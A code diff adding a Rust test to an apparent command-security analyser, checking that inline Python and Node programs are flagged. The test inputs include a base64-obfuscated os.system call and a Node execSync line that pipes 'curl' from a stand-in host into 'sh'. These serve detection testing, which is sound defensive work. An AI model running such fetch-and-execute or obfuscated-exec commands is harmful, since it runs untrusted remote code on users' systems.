@@ -197,3 +197,14 @@ fn a_session_carries_variables_and_downloads_from_one_block_to_the_next() {
     // Separate sessions share nothing.
     assert!(run(&["bash i.sh"]).is_empty());
 }
+
+#[test]
+fn a_program_given_to_an_interpreter_inline_is_analysed_in_its_language() {
+    let b64 =
+        "python3 -c \"import base64,os;os.system(base64.b64decode('ZWNobyBoZWxsbw==').decode())\"";
+    assert!(rules(b64).contains(&"EXE020"), "{:?}", rules(b64));
+    let node = "node -e \"require('child_process').execSync('curl -s https://t.example/i | sh')\"";
+    assert!(rules(node).contains(&"SUP020"), "{:?}", rules(node));
+    assert!(rules("python3 -c 'import json,sys; print(json.load(sys.stdin)[\"v\"])'").is_empty());
+    assert!(rules("node -e 'console.log(process.version)'").is_empty());
+}
